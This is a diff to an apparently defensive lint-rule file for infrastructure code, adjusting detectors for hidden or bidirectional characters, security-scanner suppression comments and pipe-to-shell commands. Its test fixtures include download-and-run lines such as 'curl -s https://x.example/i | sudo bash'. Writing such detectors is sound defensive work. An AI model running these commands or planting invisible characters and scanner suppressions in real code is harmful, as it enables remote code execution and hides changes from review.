@@ -75,7 +75,11 @@ def hidden(text: Text) -> Iterator[Hit]:
         if char.isascii() or not _invisible(char):
             continue
         at = text.content.index(char)
-        if char == "\ufe0f" and text.path.endswith(".md") and not re.search("(?<![\u203c-\u3299\U0001f000-\U0001faff])\ufe0f", text.content):
+        if (
+            char == "\ufe0f"
+            and text.path.endswith(".md")
+            and not re.search("(?<![\u203c-\u3299\U0001f000-\U0001faff])\ufe0f", text.content)
+        ):
             continue
         yield Hit(f"hidden character U+{ord(char):04X}", text.path, text.line(at))
 
@@ -153,7 +157,7 @@ RULES: tuple[Rule[Text], ...] = (
         "content/hidden",
         "no hidden or bidirectional characters",
         hidden,
-        fires=(_main("# pub\u2062lic\n"), _main("locals { a = \"\u202e\" }\n"), _main("# a\x00b\n"), _main("# \U000e0041\n")),
+        fires=tuple(_main(f"# a{char}b\n") for char in "\u2062\u202e\x00\U000e0041\ufeff\u3164"),
         passes=(_main("# Größe, 東京\n"), _main("locals {\n\ta = 1\r\n}\n")),
         waivable=False,
     ),
@@ -164,8 +168,9 @@ RULES: tuple[Rule[Text], ...] = (
         fires=tuple(
             _main(f"# {comment}\n")
             for comment in (
-                "checkov:skip=CKV_AWS_18: legacy", "bridgecrew:skip=CKV_AWS_18", "cortex:skip=CKV_AWS_18", "tfsec:ignore:*",
-                "trivy:ignore:AVD-AWS-0086", "tflint-ignore: all", "kics-scan ignore", "noqa", "nosec", "yamllint disable",
+                "checkov:skip=CKV_AWS_18: legacy", "bridgecrew:skip=CKV_AWS_18", "cortex:skip=CKV_AWS_18", "noqa",
+                "trivy:ignore:AVD-AWS-0086", "tflint-ignore: all", "kics-scan ignore", "tfsec:ignore:*", "nosec",
+                "yamllint disable",
                 "nosemgrep", "skipcq: TF-1", "ignore-check.kube-linter.io/x",
             )
         ),
@@ -193,7 +198,7 @@ RULES: tuple[Rule[Text], ...] = (
         "content/shell-pipe",
         "nothing is loaded and run in one go",
         shell_pipes,
-        fires=(_main("locals {\n  a = \"curl -s https://x.example/i | sudo bash\"\n}\n"), _main("# sh -c \"$(curl x)\"\n")),
+        fires=(_main("# curl -s https://x.example/i | sudo bash\n"), _main("# sh -c \"$(curl x)\"\n")),
         passes=(_main("locals {\n  a = \"curl -fsS http://localhost/health || exit 1\"\n}\n"),),
     ),
     Rule(
